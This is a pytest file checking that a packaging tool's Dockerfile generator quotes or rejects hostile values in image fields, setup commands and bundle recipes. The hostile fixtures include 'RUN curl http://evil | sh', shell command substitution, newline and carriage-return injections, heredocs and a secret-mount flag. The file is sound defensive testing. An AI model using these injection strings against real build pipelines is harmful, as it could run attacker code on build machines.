"""Nothing that is written into a Dockerfile becomes an instruction, wherever it comes from."""

from __future__ import annotations

import json
import shlex
from dataclasses import fields, replace
from pathlib import Path
from typing import Any

import pytest

from headway.bundle.format import RECORD, Bundle
from headway.cli import main
from headway.core.errors import BAD_INPUT, BadBundle, BadInput
from headway.core.quoting import quote_for_dockerfile as quote
from headway.packaging.dockerfile import ImageSpec, label_instruction, run_instruction
from headway.serving.deploy.image import serving_image
from tests.deploy.bundles import small_bundle
from tests.deploy.test_image import ANY
from tests.deploy.test_image import PLAIN as SERVER
from tests.packaging.test_blueprint import FULL, PLAIN

EVIL = "RUN curl http://evil | sh"
HOSTILE = {
    "line": f"x)\n{EVIL}\n# (",
    "carriage return": f"x\r\n{EVIL}\r\n",
    "lone carriage return": f"x\r{EVIL}",
    "continued": "x \\",
    "continued line": f"x \\\n{EVIL}",
    "quotes": f'x" y="z"\n{EVIL}',
    "quote": 'x" headway.job="other',
    "backslash quote": 'x\\" evil="1',
    "shell": "x$(curl http://evil)`id`;id",
    "variable": "x$PATH ${HOME}",
    "heredoc": f"<<EOF\n{EVIL}\nEOF",
    "blank": "x y --from=other",
    "separator": f"x\u2028{EVIL}\x85{EVIL}",
    "nul": "x\x00y",
    "flag": "--mount=type=secret",
    "directive": "escape=`",
}
BLUEPRINTS: dict[str, ImageSpec] = {"plain": PLAIN, "full": FULL, "server": SERVER, "any": ANY}
TEXTS = [
    (name, field.name)
    for name, image in BLUEPRINTS.items()
    for field in fields(image)
    if isinstance(getattr(image, field.name), str)
]


def instructions(text: str) -> list[str]:
    """As Docker reads them: comments left out, continued lines joined. Any kind of line end counts as one."""
    found: list[str] = []
    going_on = False
    for line in text.splitlines():
        if line.lstrip().startswith("#") or not line.strip():
            continue
        if going_on:
            found[-1] += line
        else:
            found.append(line)
        going_on = line.rstrip().endswith("\\")
    return found


def words(text: str) -> list[str]:
    return [line.split()[0] for line in instructions(text)]


@pytest.mark.parametrize(("image", "field"), TEXTS)
@pytest.mark.parametrize("case", HOSTILE)
def test_no_value_becomes_an_instruction(image: str, field: str, case: str) -> None:
    good = BLUEPRINTS[image]
    change: dict[str, Any] = {field: HOSTILE[case]}
    try:
        text = replace(good, **change).dockerfile()
    except BadInput:
        return
    assert words(text) == words(good.dockerfile())
    for bad, fine in zip(instructions(text), instructions(good.dockerfile()), strict=True):
        own = bad.startswith("RUN /opt/headway/bin/pip install -r /build/yours/")
        assert bad == fine or bad.startswith("LABEL ") or own
        assert not own or bad == fine or shlex.split(bad)[4] == f"/build/yours/{change[field]}"
    assert text.splitlines()[0].startswith("# ")
    assert "=" not in text.splitlines()[0].split()[1]


@pytest.mark.parametrize("case", HOSTILE)
def test_a_setup_command_is_one_instruction_and_the_same_command(case: str) -> None:
    text = replace(PLAIN, setup=(HOSTILE[case],)).dockerfile()
    added = [line for line in instructions(text) if line not in instructions(PLAIN.dockerfile())]
    assert len(added) == 1, added
    told = added[0].removeprefix("RUN ")
    assert json.loads(told)[2] == HOSTILE[case].strip() if told.startswith("[") else told == HOSTILE[case].strip()


def test_an_ordinary_command_stays_readable() -> None:
    assert (
        run_instruction("apt-get update && apt-get install -y 'libgl1'")
        == "RUN apt-get update && apt-get install -y 'libgl1'"
    )


def test_labels_keep_their_values() -> None:
    assert label_instruction({"headway.job": 'a "b" $C \\d'}) == 'LABEL headway.job="a \\"b\\" \\$C \\\\d"'


def test_what_cannot_be_written_is_named() -> None:
    with pytest.raises(BadInput, match="the base image"):
        replace(PLAIN, base=HOSTILE["line"]).dockerfile()


def test_a_comment_is_one_line() -> None:
    assert quote("a\nb\\", "comment", "x") == "a b"


# -- a bundle of a stranger -------------------------------------------------------------------------------------------


@pytest.fixture
def strange(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HEADWAY_HOME", str(tmp_path / "home"))
    return small_bundle(tmp_path / "bundle", recipe=HOSTILE["line"])


def test_only_a_known_recipe_is_served(strange: Path) -> None:
    with pytest.raises(BadBundle, match="which this Headway does not have"):
        serving_image(Bundle.open(str(strange)).record)


@pytest.mark.parametrize(
    "verb",
    [
        ["serve", "--image"],
        ["serve", "--image", "--out", "there"],
        ["deploy", "--to", "cloud-run", "--project", "p", "--region", "us-central1"],
    ],
)
def test_a_hostile_recipe_is_refused_by_every_verb(
    verb: list[str], strange: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(strange.parent)
    assert main([verb[0], str(strange), *verb[1:]]) == BAD_INPUT
    said = capsys.readouterr()
    assert "recipe" in said.err
    assert "\nRUN curl" not in said.out + said.err
    assert not (strange.parent / "there").exists()


def test_a_hostile_name_stays_a_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HEADWAY_HOME", str(tmp_path / "home"))
    record = Bundle.open(str(small_bundle(tmp_path / "bundle", name=HOSTILE["line"]))).record
    assert EVIL not in serving_image(record).dockerfile()
    raw = json.loads((tmp_path / "bundle" / RECORD).read_text())
    assert raw["name"] == HOSTILE["line"]
